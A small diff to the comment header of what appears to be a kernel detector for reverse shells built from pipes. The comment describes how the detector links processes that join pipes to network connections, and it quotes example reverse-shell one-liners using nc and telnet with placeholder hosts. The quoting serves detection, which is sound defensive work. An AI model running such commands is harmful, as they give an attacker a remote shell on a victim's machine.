@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: GPL-2.0-only */
 /*
  * Chains of pipes that begin and end on the network with a shell between:
- * `cat f | sh -i 2>&1 | nc HOST PORT >f`, `telnet HOST 1 | sh | telnet HOST 2`. None of the processes
+ * `sh -i <f 2>&1 | nc HOST PORT >f`, `telnet HOST 1 | sh | telnet HOST 2`. None of the processes
  * is tied to a connection by itself. Those that join two pipes are remembered at exec, those that
  * connect or listen with a pipe as input or output when they do; whoever comes last closes the chain.
  */
